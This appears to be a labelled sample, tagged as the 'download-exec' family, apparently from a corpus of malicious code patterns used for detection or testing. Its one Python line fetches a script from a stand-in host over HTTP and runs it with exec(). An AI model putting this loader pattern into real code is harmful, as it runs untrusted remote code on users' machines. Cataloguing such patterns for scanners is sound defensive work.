# family: download-exec
# code downloaded over HTTP and executed directly
import urllib.request

exec(urllib.request.urlopen("http://stage2.example.invalid/p.py").read().decode())
